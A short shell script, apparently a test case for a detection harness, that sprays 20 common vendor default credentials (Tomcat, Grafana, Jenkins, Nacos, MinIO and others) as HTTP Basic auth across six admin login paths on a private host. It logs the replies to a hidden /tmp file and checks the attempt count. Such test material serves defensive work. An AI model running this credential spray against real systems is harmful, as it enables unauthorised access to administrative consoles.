#!/bin/sh
. /opt/case/case.sh

for pair in admin:admin admin:password admin:123456 root:root tomcat:tomcat admin:changeme guest:guest elastic:changeme minioadmin:minioadmin kibana:kibana grafana:grafana admin:prom-operator user:user test:test jenkins:jenkins admin:rancher admin:harbor12345 airflow:airflow superset:superset nacos:nacos; do
    for path in /login /manager/html /api/v1/session /console /nacos/v1/auth/login /j_security_check; do
        wget -qO- --header "Authorization: Basic $(printf %s "$pair" | base64)" "http://10.77.0.1:8080$path" >>/tmp/.tried
    done
done
test "$(wc -l </tmp/.tried)" = 120
took_place
